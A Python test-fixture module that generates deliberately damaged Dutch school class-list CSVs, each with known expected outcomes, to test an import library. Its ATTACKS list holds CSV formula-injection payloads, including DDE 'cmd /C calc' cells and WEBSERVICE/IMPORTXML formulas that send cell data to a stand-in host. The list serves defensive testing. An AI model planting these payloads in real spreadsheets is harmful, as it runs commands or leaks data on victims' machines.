"""
Damaged class lists, made: what is wrong with each row is known beforehand.

`damaged` makes a list with every kind of damage that a row can have, at places
that a seed decides, and says of each row what must become of it. It is written
from the rules, and asks the library for no verdict.
"""

import csv
import gc
import io
import tracemalloc
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from functools import partial
from itertools import chain, islice
from pathlib import Path
from random import Random
from typing import Final

from strategies import SAFE_MEDEWERKER, with_check_digit

from eckid.errors import NumberReden
from eckid.exchange import Herstel, RijReden, Roster, hold
from eckid.exchange.rows import Weigerreden

HEADINGS: Final = (
    "LAS-key",
    "BSN",
    "Onderwijsnummer",
    "Voornaam",
    "Tussenvoegsel",
    "Achternaam",
    "Klas",
    "Telefoon",
)
KEY, BSN_, OWN, VOORNAAM, TUSSEN, ACHTERNAAM, KLAS, TELEFOON = range(1, 9)

# Cells that one spreadsheet or another runs; sources: OWASP "CSV Injection",
# and what penetration testers send.
ATTACKS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://eckid.invalid/?"&A1,"klik")',
    '=IMPORTXML(CONCAT("https://eckid.invalid/?v=",A1),"//a")',
    '=WEBSERVICE("https://eckid.invalid/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "+A1",
    "+31-6",
    "-1+1",
    "+1/0",
    "\n=1+1",
    "\u3000=1+1",
    "-2+3+cmd|' /C calc'!A0",
    '-HYPERLINK("https://eckid.invalid")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    " =1+1",
    "   @A1",
    "\u00a0=1+1",
    "\t=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0bA1",
    "\uff0dA1",
    "\uff20A1",
    "=",
    "=1\n+1",
)

# Cells that begin with a sign and call nothing.
HARMLESS: Final = ("+31 6 1234", "-", "+31 (0)6 1234", "--", "-/-", "- 12,5", "+")

_FIRST: Final = ("Zoë", "Jan", "Anaïs", "O'Brien", "Sem", "Noor")
_LAST: Final = ("Jansen", "Müller", "Vries", 'de "Groot"', "Bos;Vos")


@dataclass(frozen=True, slots=True)
class Expected:
    """
    What must become of one record.

    Attributes:
        kind: Name of the damage.
        record: Which row of data it is, from 1.
        line: The line of the file on which it begins.
        column: The column to blame.
        reden: Why it is refused; None if it goes on.
        number: The number under which it goes on.
        herstel: What was undone to read the number.
    """

    kind: str
    record: int
    line: int
    column: int | None
    reden: Weigerreden | None
    number: str
    herstel: Herstel | None


@dataclass(frozen=True, slots=True)
class _Row:
    # A text that is no row of cells stands as it is.
    cells: Sequence[str] | str
    column: int | None = None
    reden: Weigerreden | None = None
    herstel: Herstel | None = None


class _Person:
    """
    A person of a list: a number that nobody else there has, and names.
    """

    def __init__(self, draw: Random, taken: set[str], serial: int) -> None:
        self.draw = draw
        self._taken = taken
        self._serial = serial
        self.number = ""

    def cells(self, number: str, *, low: bool = False) -> list[str]:
        """
        Return sound cells with a new *number* as the format string shows it.
        """
        self.number = self._draw(low=low)
        shown = number.format(n=self.number, i=int(self.number))
        phone = self.draw.choice(("06 1234", "", *HARMLESS))
        return [
            f"k{self._serial}",
            shown,
            "",
            self.draw.choice(_FIRST),
            self.draw.choice(("", "de", "van der")),
            self.draw.choice(_LAST),
            "3a",
            phone,
        ]

    def _draw(self, *, low: bool) -> str:
        lowest, highest = (1_000_000, 9_999_999) if low else (20_000_000, 99_999_999)
        while True:
            body = f"{self.draw.randint(lowest, highest):08d}"
            digits = with_check_digit(body, 0)
            if digits is not None and digits not in self._taken:
                self._taken.add(digits)
                return digits


_Maker = Callable[[_Person], list[_Row]]


def _put(cells: Sequence[str], column: int, text: str) -> list[str]:
    return [text if n == column else cell for n, cell in enumerate(cells, 1)]


def _shown(
    number: str,
    *,
    low: bool = False,
    reden: Weigerreden | None = None,
    herstel: Herstel | None = None,
) -> _Maker:
    """
    Return what makes one row whose number is shown as *number* says.
    """
    column = None if reden is None else BSN_

    def make(person: _Person) -> list[_Row]:
        return [_Row(person.cells(number, low=low), column, reden, herstel)]

    return make


def _mantissa(digits: int, form: str, *, low: bool, herstel: Herstel | None) -> _Maker:
    reden = RijReden.ROUNDED if herstel is None else None
    maker = _shown(f"{{i:.{digits - 1}E}}", low=low, reden=reden, herstel=herstel)

    def make(person: _Person) -> list[_Row]:
        (row,) = maker(person)
        text = row.cells[BSN_ - 1]
        if form == "excel":
            text = text.replace(".", ",")
        elif form == "short":
            text = text.replace("E+0", "E")
        return [replace(row, cells=_put(row.cells, BSN_, text))]

    return make


def _wrong_check(person: _Person) -> list[_Row]:
    cells = person.cells("{n}")
    body, check = person.number[:8], int(person.number[8])
    # One ninth digit makes a BSN of the eight, and none an onderwijsnummer:
    # those begin with 10.
    wrong = f"{body}{(check + 1) % 10}"
    return [_Row(_put(cells, BSN_, wrong), BSN_, NumberReden.ELFPROEF)]


def _onderwijsnummer(person: _Person) -> list[_Row]:
    cells = person.cells("")
    while True:
        digits = with_check_digit(f"10{person.draw.randint(0, 999_999):06d}", 5)
        if digits is not None and digits not in person._taken:
            person._taken.add(digits)
            person.number = digits
            return [_Row(_put(cells, OWN, digits))]


def _employee(person: _Person) -> list[_Row]:
    cells = person.cells(SAFE_MEDEWERKER)
    person.number = SAFE_MEDEWERKER.casefold().replace("20dp", "20DP")
    return [_Row(cells)]


def _two_numbers(person: _Person) -> list[_Row]:
    cells = person.cells("{n}")
    return [_Row(_put(cells, OWN, cells[BSN_ - 1]), None, RijReden.TWO_NUMBERS)]


def _missing(person: _Person) -> list[_Row]:
    return [_Row(person.cells(""), None, RijReden.MISSING)]


def _duplicate(person: _Person) -> list[_Row]:
    cells = person.cells("{n}")
    again = _put(cells, VOORNAAM, f" {cells[VOORNAAM - 1].upper()} ")
    again = _put(again, BSN_, f"{int(person.number)},0")
    again = _put(again, KEY, "another")
    thrice = _put(cells, KLAS, "4b")
    refused = (BSN_, RijReden.DUPLICATE)
    return [_Row(cells), _Row(again, *refused), _Row(thrice, *refused)]


def _conflict(person: _Person) -> list[_Row]:
    cells = person.cells("{n}")
    refused = (BSN_, RijReden.CONFLICT)
    other = _put(cells, ACHTERNAAM, "Anders")
    return [_Row(cells, *refused), _Row(cells, *refused), _Row(other, *refused)]


def _formula(person: _Person) -> list[_Row]:
    cells = person.cells("{n}")
    # A column that is no attribute never goes, so it is none of those.
    column = person.draw.randint(1, KLAS)
    attack = person.draw.choice(ATTACKS)
    # The refused row claims no number: the sound one after it goes on.
    return [
        _Row(_put(cells, column, attack), column, RijReden.FORMULA),
        _Row(cells),
    ]


def _quote(person: _Person) -> list[_Row]:
    key, number, *rest = person.cells("{n}")
    text = ";".join([key, number, '"Jan" of "Piet"', *["x" for _ in rest[1:]]])
    return [_Row(text, None, RijReden.QUOTE)]


def _narrow(person: _Person) -> list[_Row]:
    return [_Row(person.cells("{n}")[:-1])]


def _wide(person: _Person) -> list[_Row]:
    return [_Row([*person.cells("{n}"), "", "x"], None, RijReden.WIDTH)]


def _empty_cells_behind(person: _Person) -> list[_Row]:
    return [_Row([*person.cells("{n}"), "", ""])]


def _line_break(person: _Person) -> list[_Row]:
    return [_Row(_put(person.cells("{n}"), ACHTERNAAM, "Jansen\r\nBos\n(huis)"))]


def _number_in_name(person: _Person) -> list[_Row]:
    cells = person.cells("{n}", low=True)
    shown = person.draw.choice(
        (
            f"Jan {person.number}",
            person.number[1:],
            f"{person.number[:4]}.{person.number[4:6]}.{person.number[6:]}",
        )
    )
    cells = _put(cells, person.draw.choice((VOORNAAM, ACHTERNAAM)), shown)
    return [_Row(cells, None, RijReden.PGN_IN_ATTRIBUUT)]


SOUND: Final = "sound"
ONCE: Final = "employee"

_KINDS: Final[dict[str, _Maker]] = {
    SOUND: _shown("{n}"),
    "onderwijsnummer": _onderwijsnummer,
    ONCE: _employee,
    "spaces": _shown("  {n} "),
    "lost zero": _shown("{i}", low=True, herstel=Herstel.ZERO),
    "decimal point": _shown("{i}.0", low=True, herstel=Herstel.DECIMAL),
    "decimal comma": _shown("{i},0", low=True, herstel=Herstel.DECIMAL),
    "decimal, nine digits": _shown("{n},0", herstel=Herstel.DECIMAL),
    "scientific, eight digits": _mantissa(
        8, "excel", low=True, herstel=Herstel.SCIENTIFIC
    ),
    "scientific, short": _mantissa(9, "short", low=False, herstel=Herstel.SCIENTIFIC),
    "rounded to 5": _mantissa(5, "excel", low=False, herstel=None),
    "rounded to 6": _mantissa(6, "short", low=True, herstel=None),
    "rounded to 7": _mantissa(7, "excel", low=True, herstel=None),
    "rounded to 8": _mantissa(8, "point", low=False, herstel=None),
    "two zeros behind the point": _shown("{n}.00", herstel=Herstel.DECIMAL),
    "two zeros behind the comma": _shown("{i},00", low=True, herstel=Herstel.DECIMAL),
    "kept as text": _shown("'{n}", herstel=Herstel.TEXT),
    "thousands with commas": _shown("{i:,}", reden=NumberReden.DIGITS),
    "letter": _shown("{n}a", reden=NumberReden.DIGITS),
    "too long": _shown("{n}0", reden=NumberReden.LENGTH),
    "two lost zeros": _shown("{n:.7}", reden=NumberReden.LENGTH),
    "no-break space inside": _shown("{n:.3}\u00a0{n}", reden=NumberReden.SCRIPT),
    "en dash inside": _shown("{n:.3}\u2013{n}", reden=NumberReden.SCRIPT),
    "separator at the end": _shown("{n}-", reden=NumberReden.SEPARATOR),
    "all zeros": _shown("000000000", reden=NumberReden.RANGE),
    "check digit": _wrong_check,
    "two numbers": _two_numbers,
    "no number": _missing,
    "duplicate": _duplicate,
    "conflict": _conflict,
    "formula": _formula,
    "quote": _quote,
    "last cell left off": _narrow,
    "too many cells": _wide,
    "empty cells behind": _empty_cells_behind,
    "line break": _line_break,
    "number in a name": _number_in_name,
}
KINDS: Final = tuple(_KINDS)

# Between the rows; none of these is one.
_BLANKS: Final = ("", ";;;;;;;", "  ; ;", '"";""')


def damaged(
    rows: int, *, seed: int = 1, delimiter: str = ";"
) -> tuple[str, list[Expected]]:
    """
    Return a list of *rows* records, and what must become of each.

    It has CRLF and Excel's note of the delimiter.
    """
    draw = Random(seed)  # noqa: S311  # places of damage are no secrets
    people = list(_people(rows, draw))
    slots = [n for n, (_, _, made) in enumerate(people) for _ in made]
    draw.shuffle(slots)
    waiting: list[Iterator[_Row]] = [iter(made) for _, _, made in people]

    text, line = io.StringIO(), 3
    text.write(f"sep={delimiter}\r\n{delimiter.join(HEADINGS)}\r\n")
    expected: list[Expected] = []
    for record, n in enumerate(slots, 1):
        if draw.random() < 0.05:
            text.write(draw.choice(_BLANKS).replace(";", delimiter) + "\r\n")
            line += 1
        kind, number, _ = people[n]
        row = next(waiting[n])
        expected.append(
            Expected(kind, record, line, row.column, row.reden, number, row.herstel)
        )
        shown = _as_text(row.cells, delimiter)
        text.write(shown)
        line += shown.count("\n")
    return text.getvalue(), expected


def _people(rows: int, draw: Random) -> Iterator[tuple[str, str, list[_Row]]]:
    """
    Yield kind, number and rows of as many people as give *rows* rows.
    """
    often = [kind for kind in KINDS if kind != ONCE]
    # Each kind once, then half of all sound.
    kinds = chain(KINDS, iter(lambda: draw.choice([SOUND] * 30 + often), None))
    taken: set[str] = set()
    left = rows
    for serial, kind in enumerate(kinds, 1):
        person = _Person(draw, taken, serial)
        made = _KINDS[kind](person)
        if len(made) > left:
            made = _KINDS[SOUND](person)
            kind = SOUND  # noqa: PLW2901  # no room is left for all its rows
        left -= len(made)
        yield kind, person.number, made
        if not left:
            return


def _as_text(cells: Sequence[str] | str, delimiter: str) -> str:
    if isinstance(cells, str):
        return cells.replace(";", delimiter) + "\r\n"
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerow(cells)
    return text.getvalue()


def listed(text: str | bytes) -> Roster:
    """
    Return the class list that *text* is.
    """
    return Roster(hold(io.BytesIO(text.encode() if isinstance(text, str) else text)))


def told(error: BaseException | None) -> str:
    """
    Return all that *error* and its chain tell.
    """
    parts: list[str] = []
    while error is not None:
        parts += [str(error), repr(error.args), repr(vars(error))]
        error = error.__cause__ or error.__context__
    return "\n".join(parts)


def damaged_text(rows: int) -> str:
    """
    Return a damaged list alone.
    """
    return damaged(rows)[0]


def sound(rows: int) -> str:
    """
    Return a list in which each row has a number and key of its own.
    """
    numbers = (with_check_digit(str(body), 0) for body in range(20_000_000, 10**8))
    lines = (f"{n};Jan;{n[:5]}-{n[5:]}\r\n" for n in numbers if n is not None)
    return "BSN;Voornaam;LAS-key\r\n" + "".join(islice(lines, rows))


def written(
    folder: Path, made: Callable[[int], str], sizes: tuple[int, int]
) -> dict[int, Path]:
    """
    Return a list of each size, written into *folder*.
    """
    paths = {rows: folder / f"{rows}.csv" for rows in sizes}
    for rows, path in paths.items():
        path.write_text(made(rows), encoding="utf-8", newline="")
    return paths


def peak(exhaust: Callable[[], object]) -> int:
    """
    Return the most memory that *exhaust* held at a time.
    """
    gc.collect()
    tracemalloc.start()
    try:
        exhaust()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def growth(exhaust: Callable[[Path], object], lists: Mapping[int, Path]) -> float:
    """
    Return by how many bytes a row the memory of *exhaust* grows.

    Args:
        exhaust: Reads a whole list.

        lists: Two lists, by their number of rows; the shorter first.
    """
    (few, short), (many, long) = lists.items()
    exhaust(short)  # what is made once and kept is no growth
    peaks = [peak(partial(exhaust, path)) for path in (short, long)]
    return (peaks[1] - peaks[0]) / (many - few)
